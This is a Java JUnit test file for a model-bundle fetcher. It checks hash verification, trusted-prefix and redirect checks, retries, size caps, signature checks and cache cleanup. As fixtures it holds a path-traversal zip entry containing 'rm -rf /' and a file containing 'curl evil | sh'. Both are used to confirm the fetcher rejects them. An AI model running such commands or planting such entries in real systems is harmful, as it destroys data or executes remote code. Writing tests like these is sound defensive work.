package io.streambert.processor.rollout.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.streambert.model.bundle.Checksums;
import io.streambert.model.bundle.ManifestSignature;
import io.streambert.model.bundle.ModelBundle;
import io.streambert.model.testing.TestBundles;
import io.streambert.processor.rollout.store.StubStore.Answer;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.BasicFileAttributes;
import java.nio.file.attribute.FileTime;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.assertj.core.api.AbstractThrowableAssert;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Fetching real bundle zips from a real file folder and a real HTTP server, and refusing every kind
 * of bad one with its reason, leaving nothing unpacked.
 */
class BundleFetcherTest {

  @TempDir static Path shared;
  @TempDir Path tmp;

  static ModelBundle good;
  static Path goodZip;
  static String goodSha;

  private StubStore store;
  private Path cache;

  @BeforeAll
  static void zipTheTestBundle() throws IOException {
    good = TestBundles.miniLmBothTasks();
    goodZip = zip(shared.resolve("good.zip"), filesOf(good));
    goodSha = Checksums.sha256(goodZip);
  }

  @BeforeEach
  void startStore() {
    store = new StubStore();
    cache = tmp.resolve("cache");
  }

  @AfterEach
  void stopStore() {
    store.close();
  }

  @Test
  void shouldFetchVerifyAndOpenWhenBundleIsInTrustedFileStore() throws Exception {
    // Given a file store folder holding the zip, and that folder trusted
    Path folder = Files.createDirectories(tmp.resolve("srv/bundles"));
    Path zip = Files.copy(goodZip, folder.resolve("1.0.0.zip"));

    try (BundleFetcher fetcher = BundleFetcher.open(settings(folder.toUri().toString()))) {
      // When fetched
      FetchedBundle fetched = fetcher.fetch(zip.toUri(), goodSha);

      // Then it is opened from a folder under the cache, with its manifest
      assertThat(fetched.bundle().manifest().modelVersion()).isEqualTo(TestBundles.VERSION);
      assertThat(fetched.directory()).startsWith(cache.resolve("unpacked").toAbsolutePath());
      assertThat(fetched.directory().resolve("model.onnx")).hasSameBinaryContentAs(good.onnxPath());

      // And the folder stays in the cache until the fetcher closes
      assertThat(fetched.directory()).isDirectory();
    }
    assertThat(entries(cache.resolve("unpacked"))).isEmpty();
  }

  @Test
  void shouldReuseTheUnpackedFolderWhenTheSameBundleIsFetchedAgain() throws Exception {
    // Given a bundle fetched once from a file store
    Path folder = Files.createDirectories(tmp.resolve("srv/bundles"));
    Path zip = Files.copy(goodZip, folder.resolve("1.0.0.zip"));
    try (BundleFetcher fetcher = BundleFetcher.open(settings(folder.toUri().toString()))) {
      FetchedBundle first = fetcher.fetch(zip.toUri(), goodSha);
      Path model = first.directory().resolve("model.onnx");
      Object writtenAs = Files.readAttributes(model, BasicFileAttributes.class).fileKey();
      FileTime writtenAt = Files.getLastModifiedTime(model);

      // When fetched again (a rollback)
      FetchedBundle again = fetcher.fetch(zip.toUri(), goodSha);

      // Then it opens the same folder, its files not written again
      assertThat(again.directory()).isEqualTo(first.directory());
      assertThat(Files.readAttributes(model, BasicFileAttributes.class).fileKey())
          .isEqualTo(writtenAs);
      assertThat(Files.getLastModifiedTime(model)).isEqualTo(writtenAt);
      assertThat(again.bundle().manifest().modelVersion()).isEqualTo(TestBundles.VERSION);
    }
  }

  @Test
  void shouldUnpackAgainWhenAKeptFolderChangedAfterItWasWritten() throws Exception {
    // Given a bundle fetched once, then a file of its kept folder overwritten and one added
    Path folder = Files.createDirectories(tmp.resolve("srv/bundles"));
    Path zip = Files.copy(goodZip, folder.resolve("1.0.0.zip"));
    try (BundleFetcher fetcher = BundleFetcher.open(settings(folder.toUri().toString()))) {
      Path dir = fetcher.fetch(zip.toUri(), goodSha).directory();
      Files.writeString(dir.resolve("tokenizer.json"), "{}");
      Files.writeString(dir.resolve("extra.py"), "print('hi')");

      // When fetched again
      FetchedBundle again = fetcher.fetch(zip.toUri(), goodSha);

      // Then it was unpacked again from the verified zip: the real files, nothing extra
      assertThat(again.directory().resolve("tokenizer.json"))
          .hasSameBinaryContentAs(good.tokenizerPath());
      assertThat(again.directory().resolve("extra.py")).doesNotExist();
    }
  }

  @Test
  void shouldDownloadOnceWhenHttpStoreServesSameBundleTwice() throws Exception {
    // Given the zip on an HTTP store
    store.route("/bundles/1.0.0.zip", Answer.file(goodZip));
    URI uri = store.uri("/bundles/1.0.0.zip");

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix() + "bundles/"))) {
      // When fetched twice (a rollback to a cached bundle)
      FetchedBundle first = fetcher.fetch(uri, goodSha);
      FetchedBundle second = fetcher.fetch(uri, goodSha.toUpperCase(java.util.Locale.ROOT));

      // Then the store saw one request, and both opened the bundle's one verified folder
      assertThat(store.requests()).containsExactly("/bundles/1.0.0.zip");
      assertThat(first.directory()).isEqualTo(second.directory());
      assertThat(second.bundle().manifest().modelVersion()).isEqualTo(TestBundles.VERSION);
      assertThat(cache.resolve("downloads").resolve(goodSha + ".zip")).exists();
    }
  }

  @Test
  void shouldFetchAgainWhenCachedZipChangedAfterItWasVerified() throws Exception {
    // Given the zip fetched once from an HTTP store into the cache
    store.route("/bundles/1.0.0.zip", Answer.file(goodZip));
    URI uri = store.uri("/bundles/1.0.0.zip");
    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix() + "bundles/"))) {
      fetcher.fetch(uri, goodSha);
      Path cached = cache.resolve("downloads").resolve(goodSha + ".zip");

      // When the cached zip is overwritten with other bytes of the same length, then fetched again
      byte[] bytes = Files.readAllBytes(cached);
      bytes[bytes.length / 2] ^= 0x5a;
      Files.write(cached, bytes);
      FetchedBundle again = fetcher.fetch(uri, goodSha);

      // Then the change was noticed: the store was asked again and the cache holds the real zip
      assertThat(store.requests()).containsExactly("/bundles/1.0.0.zip", "/bundles/1.0.0.zip");
      assertThat(Checksums.sha256(cached)).isEqualTo(goodSha);
      assertThat(again.bundle().manifest().modelVersion()).isEqualTo(TestBundles.VERSION);
    }
  }

  @Test
  void shouldHashCachedZipOnceWhenAPreviousRunLeftIt() throws Exception {
    // Given a cache a previous run left holding a zip under the name of another zip's SHA-256
    Path downloads = Files.createDirectories(cache.resolve("downloads"));
    Files.write(downloads.resolve(goodSha + ".zip"), new byte[] {'P', 'K', 3, 4});
    store.route("/bundles/1.0.0.zip", Answer.file(goodZip));
    URI uri = store.uri("/bundles/1.0.0.zip");

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix() + "bundles/"))) {
      // When fetched twice
      fetcher.fetch(uri, goodSha);
      fetcher.fetch(uri, goodSha);

      // Then the left zip failed its hash and was replaced by one download, reused the second time
      assertThat(store.requests()).containsExactly("/bundles/1.0.0.zip");
      assertThat(Checksums.sha256(downloads.resolve(goodSha + ".zip"))).isEqualTo(goodSha);
    }
  }

  @Test
  void shouldNotContactStoreWhenUriIsUntrusted() throws Exception {
    // Given a store that would serve the bundle, but only another prefix trusted
    store.route("/elsewhere/1.0.0.zip", Answer.file(goodZip));

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix() + "bundles/"))) {
      // When fetched, then it is refused and the store never hears of it
      assertRejected(
              () -> fetcher.fetch(store.uri("/elsewhere/1.0.0.zip"), goodSha),
              RejectionReason.UNTRUSTED_URI)
          .hasMessageContaining("it was not fetched");
      assertThat(store.requests()).isEmpty();
    }
  }

  @Test
  void shouldRejectAndKeepNothingWhenSha256Differs() throws Exception {
    store.route("/bundles/1.0.0.zip", Answer.file(goodZip));
    String wrong = "ab".repeat(32);

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix()))) {
      assertRejected(
              () -> fetcher.fetch(store.uri("/bundles/1.0.0.zip"), wrong),
              RejectionReason.SHA256_MISMATCH)
          .hasMessageContaining("expected SHA-256 " + wrong + " (the release)")
          .hasMessageContaining("found " + goodSha);
    }
    assertThat(entries(cache.resolve("downloads"))).isEmpty();
    assertThat(entries(cache.resolve("unpacked"))).isEmpty();
  }

  @Test
  void shouldRetryThenServeWhenStoreIsBrieflyUnavailable() throws Exception {
    // Given a store answering 503 twice, then the zip
    store.route("/b.zip", n -> n <= 2 ? Answer.status(503) : Answer.file(goodZip));

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix()))) {
      FetchedBundle fetched = fetcher.fetch(store.uri("/b.zip"), goodSha);

      assertThat(fetched.bundle().manifest().modelVersion()).isEqualTo(TestBundles.VERSION);
      assertThat(store.requests()).hasSize(3);
    }
  }

  @Test
  void shouldRejectAsTransientWhenStoreStaysUnavailable() throws Exception {
    store.route("/b.zip", Answer.status(503));

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix()))) {
      assertThatThrownBy(() -> fetcher.fetch(store.uri("/b.zip"), goodSha))
          .isInstanceOfSatisfying(
              BundleRejectedException.class,
              e -> {
                assertThat(e.reason()).isEqualTo(RejectionReason.FETCH_FAILED);
                assertThat(e.transientFailure()).isTrue();
                assertThat(e.statusReason()).startsWith("FETCH_FAILED: expected the store");
              })
          .hasMessageContaining("unavailable after 3 attempts")
          .hasMessageContaining("found 503");
      assertThat(store.requests()).hasSize(3);
    }
  }

  @Test
  void shouldRejectWithoutRetryWhenStoreHasNoSuchBundle() throws Exception {
    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix()))) {
      assertThatThrownBy(() -> fetcher.fetch(store.uri("/missing.zip"), goodSha))
          .isInstanceOfSatisfying(
              BundleRejectedException.class,
              e -> {
                assertThat(e.reason()).isEqualTo(RejectionReason.FETCH_FAILED);
                assertThat(e.transientFailure()).isFalse();
              })
          .hasMessageContaining("found 404");
      assertThat(store.requests()).containsExactly("/missing.zip");
    }
  }

  @Test
  void shouldNotFollowRedirectWhenTargetIsUntrusted() throws Exception {
    store.route("/bundles/b.zip", Answer.redirect("/elsewhere/b.zip"));
    store.route("/elsewhere/b.zip", Answer.file(goodZip));

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix() + "bundles/"))) {
      assertRejected(
              () -> fetcher.fetch(store.uri("/bundles/b.zip"), goodSha),
              RejectionReason.UNTRUSTED_URI)
          .hasMessageContaining("found a redirect to " + store.uri("/elsewhere/b.zip"));
      assertThat(store.requests()).containsExactly("/bundles/b.zip");
    }
  }

  @Test
  void shouldFollowRedirectWhenTargetIsTrusted() throws Exception {
    store.route("/bundles/latest.zip", Answer.redirect("/bundles/1.0.0.zip"));
    store.route("/bundles/1.0.0.zip", Answer.file(goodZip));

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix() + "bundles/"))) {
      FetchedBundle fetched = fetcher.fetch(store.uri("/bundles/latest.zip"), goodSha);

      assertThat(fetched.bundle().manifest().modelVersion()).isEqualTo(TestBundles.VERSION);
      assertThat(store.requests()).containsExactly("/bundles/latest.zip", "/bundles/1.0.0.zip");
    }
  }

  @Test
  void shouldStopDownloadingAtCapWhenZipIsTooLarge() throws Exception {
    store.route("/b.zip", Answer.file(goodZip));
    BundleStoreSettings small = settings(store.prefix()).withLimits(1_000_000, 1_000_000, 8);

    try (BundleFetcher fetcher = BundleFetcher.open(small)) {
      assertRejected(
              () -> fetcher.fetch(store.uri("/b.zip"), goodSha), RejectionReason.DOWNLOAD_TOO_LARGE)
          .hasMessageContaining("expected at most 1000000 bytes");
    }
    assertThat(entries(cache.resolve("downloads"))).isEmpty();
  }

  @Test
  void shouldRejectHostileZipAndLeaveNothingUnpacked() throws Exception {
    // Given a correctly hashed zip (the release names its SHA) with an escaping entry
    Path hostile =
        Files.write(
            tmp.resolve("hostile.zip"),
            HostileZips.zip(Map.of("../../evil.sh", "rm -rf /".getBytes(StandardCharsets.UTF_8))));
    store.route("/b.zip", Answer.file(hostile));

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix()))) {
      assertRejected(
              () -> fetcher.fetch(store.uri("/b.zip"), Checksums.sha256(hostile)),
              RejectionReason.UNSAFE_ARCHIVE)
          .hasMessageContaining("'../../evil.sh'");
    }
    assertThat(entries(cache.resolve("unpacked"))).isEmpty();
    assertThat(cache.getParent().resolve("evil.sh")).doesNotExist();
  }

  @Test
  void shouldRejectAsInvalidWhenManifestContradictsGraph() throws Exception {
    // Given the good bundle whose manifest names an input the ONNX graph does not have
    Map<String, Object> files = filesOf(good);
    String manifest = Files.readString(good.directory().resolve("manifest.json"));
    String edited = manifest.replace("\"input_ids\"", "\"token_ids\"");
    assertThat(edited).isNotEqualTo(manifest);
    files.put("manifest.json", edited.getBytes(StandardCharsets.UTF_8));
    Path zip = zip(tmp.resolve("contradicting.zip"), files);
    store.route("/b.zip", Answer.file(zip));

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix()))) {
      assertRejected(
              () -> fetcher.fetch(store.uri("/b.zip"), Checksums.sha256(zip)),
              RejectionReason.BUNDLE_INVALID)
          .hasMessageContaining("model.onnx: expected input 'token_ids' (manifest.json)");
    }
    assertThat(entries(cache.resolve("unpacked"))).isEmpty();
  }

  @Test
  void shouldRejectWhenBundleCarriesFileItsManifestDoesNotList() throws Exception {
    Map<String, Object> files = filesOf(good);
    files.put("run.sh", "curl evil | sh".getBytes(StandardCharsets.UTF_8));
    Path zip = zip(tmp.resolve("extra.zip"), files);
    store.route("/b.zip", Answer.file(zip));

    try (BundleFetcher fetcher = BundleFetcher.open(settings(store.prefix()))) {
      assertRejected(
              () -> fetcher.fetch(store.uri("/b.zip"), Checksums.sha256(zip)),
              RejectionReason.UNEXPECTED_FILE)
          .hasMessageContaining("found also [run.sh]");
    }
  }

  @Test
  void shouldCheckSignatureWhenTrustedKeyIsConfigured() throws Exception {
    // Given a trusted key, a bundle signed with it, one signed with another key, and the unsigned
    KeyPair trusted = ed25519();
    Path signed = signedZip("signed.zip", trusted);
    Path foreign = signedZip("foreign.zip", ed25519());
    store.route("/signed.zip", Answer.file(signed));
    store.route("/foreign.zip", Answer.file(foreign));
    store.route("/unsigned.zip", Answer.file(goodZip));
    BundleStoreSettings s = settings(store.prefix()).withTrustedPublicKey(trusted.getPublic());

    try (BundleFetcher fetcher = BundleFetcher.open(s)) {
      // Then only the bundle signed with the trusted key is accepted
      FetchedBundle ok = fetcher.fetch(store.uri("/signed.zip"), Checksums.sha256(signed));
      assertThat(ok.directory().resolve(ManifestSignature.FILE)).exists();
      assertRejected(
              () -> fetcher.fetch(store.uri("/foreign.zip"), Checksums.sha256(foreign)),
              RejectionReason.SIGNATURE_INVALID)
          .hasMessageContaining("to verify with the trusted public key");
      assertRejected(
              () -> fetcher.fetch(store.uri("/unsigned.zip"), goodSha),
              RejectionReason.SIGNATURE_MISSING)
          .hasMessageContaining("found no signature");
    }
  }

  @Test
  void shouldRemoveLeftoversWhenOpenedAndWhenClosed() throws Exception {
    // Given folders and a partial download a crashed run left behind
    Path leftover = Files.createDirectories(cache.resolve("unpacked/abc-1/sub"));
    Files.writeString(leftover.resolve("model.onnx"), "old");
    Path part = Files.createDirectories(cache.resolve("downloads")).resolve("abc.zip.part");
    Files.writeString(part, "half");
    Path folder = Files.createDirectories(tmp.resolve("srv"));
    Path zip = Files.copy(goodZip, folder.resolve("1.0.0.zip"));

    // When a fetcher opens, then they are gone
    BundleFetcher fetcher = BundleFetcher.open(settings(folder.toUri().toString()));
    assertThat(entries(cache.resolve("unpacked"))).isEmpty();
    assertThat(part).doesNotExist();

    // And what it unpacked is gone after close
    FetchedBundle fetched = fetcher.fetch(zip.toUri(), goodSha);
    assertThat(fetched.directory()).exists();
    fetcher.close();
    assertThat(entries(cache.resolve("unpacked"))).isEmpty();
  }

  private BundleStoreSettings settings(String... prefixes) {
    return BundleStoreSettings.defaults(cache, List.of(prefixes))
        .withRetries(3, Duration.ofMillis(10));
  }

  private Path signedZip(String name, KeyPair key) throws IOException {
    Path dir = Files.createDirectories(tmp.resolve(name + "-manifest"));
    Files.copy(good.directory().resolve("manifest.json"), dir.resolve("manifest.json"));
    ManifestSignature.sign(dir, key.getPrivate());
    Map<String, Object> files = filesOf(good);
    files.put(ManifestSignature.FILE, dir.resolve(ManifestSignature.FILE));
    return zip(tmp.resolve(name), files);
  }

  private static KeyPair ed25519() throws Exception {
    return KeyPairGenerator.getInstance("Ed25519").generateKeyPair();
  }

  private static Map<String, Object> filesOf(ModelBundle bundle) {
    Map<String, Object> files = new LinkedHashMap<>();
    files.put("manifest.json", bundle.directory().resolve("manifest.json"));
    for (String f : bundle.manifest().files().keySet()) {
      files.put(f, bundle.directory().resolve(f));
    }
    return files;
  }

  /** Zips paths or byte arrays under their names, uncompressed (fast for a 90 MB model). */
  private static Path zip(Path target, Map<String, Object> files) throws IOException {
    try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(target))) {
      out.setLevel(Deflater.NO_COMPRESSION);
      for (Map.Entry<String, Object> f : files.entrySet()) {
        out.putNextEntry(new ZipEntry(f.getKey()));
        if (f.getValue() instanceof Path p) {
          Files.copy(p, out);
        } else {
          ((OutputStream) out).write((byte[]) f.getValue());
        }
        out.closeEntry();
      }
    }
    return target;
  }

  private static List<Path> entries(Path dir) throws IOException {
    if (!Files.exists(dir)) {
      return List.of();
    }
    try (Stream<Path> s = Files.list(dir)) {
      return s.toList();
    }
  }

  private static AbstractThrowableAssert<?, ? extends Throwable> assertRejected(
      ThrowingCallable call, RejectionReason reason) {
    return assertThatThrownBy(call)
        .isInstanceOfSatisfying(
            BundleRejectedException.class, e -> assertThat(e.reason()).isEqualTo(reason));
  }
}
